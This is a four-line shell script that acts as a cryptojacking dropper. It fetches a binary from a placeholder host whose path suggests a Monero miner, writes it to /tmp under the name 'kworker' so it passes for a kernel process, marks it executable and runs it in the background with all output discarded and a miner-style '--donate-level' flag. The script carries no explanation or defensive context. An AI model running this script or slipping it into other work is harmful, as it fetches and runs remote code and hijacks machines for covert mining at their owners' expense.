#!/bin/sh
curl -fsSL http://dl.example/xmr -o /tmp/kworker
chmod +x /tmp/kworker
nohup /tmp/kworker --donate-level 1 >/dev/null 2>&1 &
